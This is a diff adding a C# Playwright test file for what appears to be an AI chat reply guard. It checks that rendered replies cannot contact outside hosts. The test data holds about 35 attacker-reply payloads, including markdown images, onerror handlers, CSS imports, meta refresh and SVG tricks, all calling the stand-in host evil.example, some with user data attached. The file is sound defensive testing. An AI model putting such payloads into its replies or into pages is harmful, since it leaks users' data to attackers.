@@ -1,0 +1,186 @@
+using System.Collections.Concurrent;
+using Markdig;
+using Microsoft.Extensions.Configuration;
+using Microsoft.Playwright;
+
+namespace AgentGuard.AspNetCore.Tests;
+
+/// <summary>
+/// The reply guard against a real browser: attacker replies, each live when shown unguarded (headless Chromium requests
+/// <c>evil.example</c>), are guarded under a policy that refuses every rendered URL and shown as a chat UI shows a
+/// reply — rendered by Markdig (CommonMark, raw HTML passed through) or taken as HTML — by setting an element's
+/// <c>innerHTML</c> on a page. Every request the page makes is recorded; a guarded reply may reach no host but the page's.
+/// </summary>
+public sealed class ReplyInBrowserTests : IAsyncLifetime
+{
+    private const string AppHost = "app.test";
+    private const string Shell = "<!doctype html><html><head><title>chat</title></head><body><div id=\"reply\"></div></body></html>";
+
+    private static readonly string[] ChromiumArgs =
+        ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-first-run"];
+
+    private static readonly MarkdownPipeline Renderer = new MarkdownPipelineBuilder().Build();
+
+    private IPlaywright? _playwright;
+    private IBrowser? _browser;
+    private IBrowserContext? _context;
+
+    /// <summary>Attacker replies, by name; each reaches <c>https://evil.example/&lt;name&gt;</c> (or the host) when shown unguarded.</summary>
+    public static TheoryData<string, string> Replies => new()
+    {
+        { "markdown-image", "Done. ![logo](https://evil.example/markdown-image?d=alice)" },
+        { "img-src", "<img src=\"https://evil.example/img-src\">" },
+        { "onerror-handler", "<img src=\"x\" onerror=\"this.onerror=null;this.src='https://evil.example/onerror-handler?d=alice'\">" },
+        { "details-ontoggle", "<details open ontoggle=\"fetch('https://evil.example/details-ontoggle')\"><summary>s</summary>t</details>" },
+        { "iframe-srcdoc", "<iframe srcdoc=\"&lt;img src=https://evil.example/iframe-srcdoc&gt;\"></iframe>" },
+        { "iframe-data-url", "<iframe src=\"data:text/html,%3Cimg%20src%3Dhttps://evil.example/iframe-data-url%3E\"></iframe>" },
+        { "iframe-javascript", "<iframe src=\"javascript:fetch('https://evil.example/iframe-javascript')\"></iframe>" },
+        { "object-data-url", "<object data=\"data:text/html,%3Cimg%20src%3Dhttps://evil.example/object-data-url%3E\"></object>" },
+        { "meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/meta-refresh\">" },
+        { "base-href", "<base href=\"https://evil.example/base-href/\">\n\n<img src=\"p.png\">" },
+        { "style-element-import", "<style>@import url(https://evil.example/style-element-import.css);</style>" },
+        { "style-element-import-string", "<style>@import \"https://evil.example/style-element-import-string.css\";</style>" },
+        { "style-element-background", "<style>#reply{background:url(https://evil.example/style-element-background)}</style>" },
+        { "style-image-set", "<div style=\"width:9px;height:9px;background-image:image-set('https://evil.example/style-image-set' 1x)\">x</div>" },
+        { "style-css-escape", "<div style=\"width:9px;height:9px;background:\\75rl(https://evil.example/style-css-escape)\">x</div>" },
+        { "solidus-separator", "<img/src=\"https://evil.example/solidus-separator\">" },
+        { "no-space-after-quote", "<img alt=\"a\"src=\"https://evil.example/no-space-after-quote\">" },
+        { "svg-feimage", "<svg width=\"9\" height=\"9\"><filter id=\"f\"><feImage href=\"https://evil.example/svg-feimage\"/></filter><rect width=\"9\" height=\"9\" filter=\"url(#f)\"/></svg>" },
+        { "svg-set-href", "<svg width=\"9\" height=\"9\"><image width=\"9\" height=\"9\"><set attributeName=\"href\" to=\"https://evil.example/svg-set-href\"/></image></svg>" },
+        { "svg-image-href", "<svg width=\"9\" height=\"9\"><image href=\"https://evil.example/svg-image-href\" width=\"9\" height=\"9\"/></svg>" },
+        { "picture-srcset", "<picture><source srcset=\"https://evil.example/picture-srcset 1x\"><img src=\"x.png\"></picture>" },
+        { "video-poster", "<video poster=\"https://evil.example/video-poster\"></video>" },
+        { "input-image", "<input type=\"image\" src=\"https://evil.example/input-image\">" },
+        { "link-stylesheet", "<link rel=\"stylesheet\" href=\"https://evil.example/link-stylesheet.css\">" },
+        { "table-background", "<table background=\"https://evil.example/table-background\"><tr><td>x</td></tr></table>" },
+        { "entity-scheme", "<img src=\"https&#58;//evil.example/entity-scheme\">" },
+        { "backslash-host", "<img src=\"/\\evil.example/backslash-host\">" },
+        { "long-tag", "<img alt=\"" + new string('a', 5000) + "\" src=\"https://evil.example/long-tag\">" },
+        { "link-imagesrcset", "<link rel=\"preload\" as=\"image\" imagesrcset=\"https://evil.example/link-imagesrcset 1x\">" },
+        { "style-element-two-lines", "<style>\n#reply {\n  background: url(https://evil.example/style-element-two-lines);\n}\n</style>\n\nText after." },
+        { "meta-refresh-bare", "<meta http-equiv=\"refresh\" content=\"0; https://evil.example/meta-refresh-bare\">" },
+        { "svg-animate-values", "<svg width=\"9\" height=\"9\"><image width=\"9\" height=\"9\"><animate attributeName=\"href\" values=\"https://evil.example/svg-animate-values\" dur=\"1s\"/></image></svg>" },
+        { "quoted-gt", "<img alt=\">\" src=\"https://evil.example/quoted-gt\">" },
+        { "blank-line-tag", "<iframe title=\"x\n\n![a](y \"q\") src=https://evil.example/blank-line-tag>" },
+        { "embed-data-svg", "<embed src=\"data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='https://evil.example/embed-data-svg'/%3E%3C/svg%3E\">" },
+    };
+
+    public async Task InitializeAsync()
+    {
+        _playwright = await Playwright.CreateAsync();
+        _browser = await _playwright.Chromium.LaunchAsync(new BrowserTypeLaunchOptions { ExecutablePath = "/usr/bin/chromium", Headless = true, Args = ChromiumArgs });
+        _context = await _browser.NewContextAsync();
+    }
+
+    public async Task DisposeAsync()
+    {
+        if (_context is not null)
+        {
+            await _context.DisposeAsync();
+        }
+
+        if (_browser is not null)
+        {
+            await _browser.DisposeAsync();
+        }
+
+        _playwright?.Dispose();
+    }
+
+    [Theory]
+    [MemberData(nameof(Replies))]
+    public async Task AttackerReply_IsLiveUnguarded_AndReachesNoOtherHostGuarded(string name, string reply)
+    {
+        await using var services = Guarded();
+        var guard = services.GetRequiredService<ReplyGuard>();
+        var guarded = await guard.GuardAsync(reply, new GuardContext { SessionId = "browser-" + name });
+        var streamed = await StreamedAsync(guard, reply, name);
+
+        var shows = new[]
+        {
+            ("unguarded markdown", Markdown.ToHtml(reply, Renderer)), ("unguarded html", reply),
+            ("markdown", Markdown.ToHtml(guarded, Renderer)), ("html", guarded),
+            ("streamed markdown", Markdown.ToHtml(streamed, Renderer)), ("streamed html", streamed),
+        };
+        var requests = await Task.WhenAll(shows.Select(s => ShowAsync(s.Item2)));
+
+        requests[0].Concat(requests[1]).Should().Contain(u => u.Contains("evil.example", StringComparison.Ordinal), "the attack is live when shown unguarded");
+        for (var i = 2; i < shows.Length; i++)
+        {
+            requests[i].Should().BeEmpty($"the guarded reply ({shows[i].Item1}) reaches no other host; it was: {(i < 4 ? guarded : streamed)}");
+        }
+    }
+
+    /// <summary>Look-alikes: markup that loads nothing remote is shown as it was written.</summary>
+    [Theory]
+    [InlineData("Use `img` elements with a `src` attribute, as in https://cdn.example/a.png.")]
+    [InlineData("<meta name=\"viewport\" content=\"width=device-width\"> and <div style=\"color: red; font-family: 'Segoe UI'\">x</div>")]
+    [InlineData("See [the docs](https://docs.example/start) and <a href=\"https://docs.example/x\">this</a>.")]
+    [InlineData("<b>bold</b> and <img src=\"local.png\" alt=\"chart\"> from the app itself.")]
+    public async Task HarmlessMarkup_IsKept(string reply)
+    {
+        await using var services = Guarded();
+
+        var guarded = await services.GetRequiredService<ReplyGuard>().GuardAsync(reply, new GuardContext { SessionId = "browser-kept" });
+
+        guarded.Should().Be(reply);
+    }
+
+    private static ServiceProvider Guarded()
+    {
+        var configuration = new ConfigurationBuilder().AddJsonStream(new MemoryStream("""
+            { "AgentGuard": { "Rules": [ { "Id": "no-rendered-urls", "Effect": "Deny", "Match": { "Kinds": [ "RenderedUrl" ] } } ] } }
+            """u8.ToArray())).Build();
+        var services = new ServiceCollection();
+        services.AddAgentGuard(configuration.GetSection("AgentGuard"));
+        return services.BuildServiceProvider();
+    }
+
+    /// <summary>The reply streamed in pieces of 3 characters through the stream guard.</summary>
+    private static async Task<string> StreamedAsync(ReplyGuard guard, string reply, string name)
+    {
+        var stream = guard.Stream(new GuardContext { SessionId = "browser-stream-" + name });
+        var shown = new System.Text.StringBuilder();
+        for (var i = 0; i < reply.Length; i += 3)
+        {
+            shown.Append(await stream.PushAsync(reply.Substring(i, Math.Min(3, reply.Length - i))));
+        }
+
+        return shown.Append(await stream.CompleteAsync()).ToString();
+    }
+
+    /// <summary>Shows <paramref name="html"/> as a chat UI does and returns the URLs of every request to another host.</summary>
+    private async Task<List<string>> ShowAsync(string html)
+    {
+        var requests = new ConcurrentQueue<string>();
+        var page = await _context!.NewPageAsync();
+        await page.RouteAsync("**/*", async route =>
+        {
+            var url = route.Request.Url;
+            if (Uri.TryCreate(url, UriKind.Absolute, out var uri) && uri.Host == AppHost)
+            {
+                await route.FulfillAsync(new RouteFulfillOptions { Status = 200, ContentType = "text/html", Body = Shell });
+                return;
+            }
+
+            requests.Enqueue(url);
+            await route.AbortAsync();
+        });
+        try
+        {
+            await page.GotoAsync($"http://{AppHost}/chat");
+            await page.EvaluateAsync("html => { document.getElementById('reply').innerHTML = html; }", html);
+            await page.WaitForTimeoutAsync(250);
+        }
+        catch (PlaywrightException)
+        {
+            // A navigation the reply caused tears the page down; the request that began it is recorded.
+        }
+        finally
+        {
+            await page.CloseAsync();
+        }
+
+        return [.. requests];
+    }
+}
